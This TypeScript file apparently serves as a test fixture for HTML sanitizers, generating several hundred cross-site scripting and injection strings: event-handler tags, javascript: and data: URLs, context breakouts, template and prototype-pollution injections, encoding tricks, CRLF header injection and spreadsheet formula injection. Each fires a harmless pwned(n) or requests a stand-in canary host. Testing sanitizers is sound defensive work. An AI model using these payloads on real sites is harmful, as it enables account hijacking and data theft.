/**
 * Texts that try to become code where they are shown. Whichever succeeds calls `pwned(n)`, n being its place in the
 * list, or asks the host of `CANARY` for something. Built of the classes of the public record: tags with handlers,
 * addresses that are scripts, what breaks out of attributes, scripts, styles, JSON and templates, what parsers mend
 * into something else, and spellings that filters overlook.
 */
export const CANARY = 'https://canary.invalid';

const HANDLERS: Record<string, readonly string[]> = {
  'img src=x': ['onerror', 'onload', 'onpointerover', 'onclick'],
  svg: ['onload', 'onbegin', 'onfocusin', 'onclick'],
  'video src=x': ['onerror', 'onloadstart', 'oncanplay'],
  'audio src=x': ['onerror', 'onloadstart'],
  'details open': ['ontoggle', 'onbeforetoggle'],
  'input autofocus': ['onfocus', 'onblur', 'onselect'],
  'textarea autofocus': ['onfocus'],
  'select autofocus': ['onfocus'],
  'button popovertarget=x': ['onclick', 'onfocus'],
  marquee: ['onstart', 'onfinish'],
  body: ['onload', 'onpageshow', 'onhashchange', 'onresize'],
  'iframe src=about:blank': ['onload'],
  'object data=x': ['onerror', 'onload'],
  'embed src=x': ['onload'],
  'link rel=stylesheet href=x': ['onerror', 'onload'],
  'script src=x': ['onerror'],
  style: ['onload'],
  'div style="animation:x 1s"': ['onanimationstart', 'onanimationend'],
  'div style="transition:all 1s" tabindex=0': ['ontransitionend', 'ontransitionrun'],
  'dialog open': ['onclose', 'oncancel'],
  'div tabindex=0 autofocus': ['onfocus', 'onpointerenter', 'onmouseover'],
  'track default src=x': ['onerror'],
  'source src=x': ['onerror'],
  meter: ['onmouseover'],
  'xss contenteditable autofocus': ['onfocus', 'oninput'],
};

/** How one tag can be written so that a filter overlooks it. */
const SPELLINGS: readonly ((tag: string, handler: string, code: string) => string)[] = [
  (tag, handler, code) => `<${tag} ${handler}="${code}">`,
  (tag, handler, code) => `<${tag.toUpperCase()} ${handler.toUpperCase()}=${code}>`,
  (tag, handler, code) => `<${tag}/${handler}=${code}//`,
  (tag, handler, code) => `"><${tag}\n${handler}\n=\n"${code}">`,
  (tag, handler, code) => `'><${tag}\t${handler}=&#x70;wned(${code.replace(/\D/g, '')})>`,
];

const SCHEMES: readonly ((code: string) => string)[] = [
  (code) => `javascript:${code}`,
  (code) => `JaVaScRiPt:${code}`,
  (code) => `java\tscript:${code}`,
  (code) => `java\nscript:${code}`,
  (code) => ` \u0001javascript:${code}`,
  (code) => `javascript&colon;${code}`,
  (code) => `javascript://%0a${code}`,
  (code) => `javascript://example.com/%0d%0a${code}`,
  (code) => `data:text/html,<script>parent.${code}</script>`,
  (code) => `data:text/html;base64,${btoa(`<script>parent.${code}</script>`)}`,
  (code) => `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${code}"/>`,
  (code) => `vbscript:${code}`,
  (code) => `view-source:javascript:${code}`,
  (code) => `blob:${CANARY}/${code}`,
  (code) => `https://example.com/"onmouseover="${code}`,
  (code) => `https://example.com/'onclick='${code}`,
  (code) => `https://example.com/\`onfocus=\`${code}`,
  (code) => `https://user:${code}@example.com@canary.invalid/`,
  (code) => `//canary.invalid/${code}`,
  (code) => `https:\\\\canary.invalid\\${code}`,
];

const PLACES: readonly ((address: string) => string)[] = [
  (address) => address,
  (address) => `<a href="${address}" autofocus>win</a>`,
  (address) => `[win](${address})`,
  (address) => `<iframe src="${address}"></iframe>`,
];

const BREAKERS: readonly ((code: string) => string)[] = [
  (code) => `<script>${code}</script>`,
  (code) => `</script><script>${code}</script>`,
  (code) => `</title><script>${code}</script>`,
  (code) => `</textarea><script>${code}</script>`,
  (code) => `</style><script>${code}</script>`,
  (code) => `--><script>${code}</script>`,
  (code) => `]]><script>${code}</script>`,
  (code) => `<script/x>${code}</script/x>`,
  (code) => `<scr<script>ipt>${code}</scr</script>ipt>`,
  (code) => `<script src=${CANARY}/${code}.js></script>`,
  (code) => `<script type=module>import('${CANARY}/${code}')</script>`,
  (code) => `<svg><script>${code}</script></svg>`,
  (code) => `<svg><script href="data:,${code}"/></svg>`,
  (code) => `<svg><animate onbegin="${code}" attributeName=x dur=1s>`,
  (code) => `<svg><a xlink:href="javascript:${code}"><text y=20>x</text></a></svg>`,
  (code) => `<svg><use href="data:image/svg+xml,<svg id=x onload=${code}>#x"/></svg>`,
  (code) => `<math><mtext><table><mglyph><style><img src=x onerror="${code}">`,
  (code) => `<math href="javascript:${code}">x</math>`,
  (code) => `<noscript><p title="</noscript><img src=x onerror=${code}>">`,
  (code) => `<form><button formaction="javascript:${code}">x</button></form>`,
  (code) => `<form id=x></form><button form=x formaction="javascript:${code}" autofocus>x`,
  (code) => `<isindex type=image src=x onerror=${code}>`,
  (code) => `<iframe srcdoc="<script>parent.${code}</script>"></iframe>`,
  (code) => `<object data="data:text/html,<script>parent.${code}</script>"></object>`,
  (code) => `<meta http-equiv=refresh content="0;url=javascript:${code}">`,
  (code) => `<base href=${CANARY}/><script src=${code}></script>`,
  (code) => `<link rel=import href=${CANARY}/${code}>`,
  (code) => `<link rel=stylesheet href=${CANARY}/${code}.css>`,
  (code) => `<style>@import '${CANARY}/${code}.css';</style>`,
  (code) => `<style>*{background:url("${CANARY}/${code}")}</style>`,
  (code) => `<div style="background:url(${CANARY}/${code})">x</div>`,
  (code) => `<div style="width:expression(${code})">x</div>`,
  (code) => `<img src="${CANARY}/${code}.png">`,
  (code) => `<img srcset="${CANARY}/${code}.png 1x">`,
  (code) => `<picture><source srcset="${CANARY}/${code}"><img></picture>`,
  (code) => `<video poster=${CANARY}/${code}></video>`,
  (code) => `<input type=image src=${CANARY}/${code}>`,
  (code) => `<template shadowrootmode=open><img src=x onerror=${code}></template>`,
  (code) => `<div id=x popover onbeforetoggle=${code}>x</div><button popovertarget=x>x`,
  (code) => `<x onclick=${code}>click</x><label for=x>`,
  (code) => `\${${code}}`,
  (code) => `\`+${code}+\``,
  (code) => `'-${code}-'`,
  (code) => `"-${code}-"`,
  (code) => `\\'-${code}//`,
  (code) => `";${code};//`,
  (code) => `');${code};//`,
  (code) => `{{constructor.constructor('${code}')()}}`,
  (code) => `{{$on.constructor('${code}')()}}`,
  (code) => `{{_c.constructor('${code}')()}}`,
  (code) => `<%= ${code} %>`,
  (code) => `#{${code}}`,
  (code) => `$t(${code})`,
  (code) => `{{name}} {{{${code}}}} {{count, ${code}}}`,
  (code) => `{"__proto__":{"html":"<img src=x onerror=${code}>"}}`,
  (code) => `constructor.prototype.x=${code}`,
  (code) => `__proto__[onerror]=${code}`,
  (code) => `<img name=body><img name=getElementById><form id=document onclick=${code}>`,
  (code) => `<a id=Touchline><a id=Touchline name=q href="javascript:${code}">`,
  (code) => `\u003cscript\u003e${code}\u003c/script\u003e`,
  (code) => `&lt;script&gt;${code}&lt;/script&gt;`,
  (code) => `&#60;img src=x onerror=${code}&#62;`,
  (code) => `%3Cscript%3E${code}%3C%2Fscript%3E`,
  (code) => `+ADw-script+AD4-${code}+ADw-/script+AD4-`,
  (code) => `＜script＞${code}＜/script＞`,
  (code) => `ʼ><img src=x onerror=${code}>`,
  (code) => `<\u202eimg src=x onerror=${code}>`,
  (code) => `<img src=x onerror\u00a0=${code}>`,
  (code) => `<\u0000img src=x onerror=${code}>`,
  (code) => `<!--><img src=x onerror=${code}>-->`,
  (code) => `<![CDATA[><img src=x onerror=${code}>]]>`,
  (code) => `<?xml-stylesheet href="javascript:${code}"?>`,
  (code) => `<!DOCTYPE x [<!ENTITY y SYSTEM "${CANARY}/${code}">]><x>&y;</x>`,
  (code) => `\r\nContent-Type: text/html\r\n\r\n<script>${code}</script>`,
  (code) => `=cmd|'/C ${code}'!A0`,
  (code) => `=HYPERLINK("${CANARY}/${code}","x")`,
];

type Make = (code: string) => string;

/** In a fixed order; the place in the list is the number that `pwned` is called with. */
export const HOSTILE_TEXTS: readonly string[] = [
  ...Object.entries(HANDLERS).flatMap(([tag, handlers]) =>
    handlers.flatMap((handler, i) =>
      // Four spellings of each, going round.
      [i, i + 1, i + 2, i + 3].map((at): Make => {
        const spell = SPELLINGS[at % SPELLINGS.length] as (typeof SPELLINGS)[number];
        return (code) => spell(tag, handler, code);
      }),
    ),
  ),
  ...SCHEMES.flatMap((scheme) =>
    PLACES.map(
      (place): Make =>
        (code) =>
          place(scheme(code)),
    ),
  ),
  ...BREAKERS,
].map((make, i) => make(`pwned(${i})`));
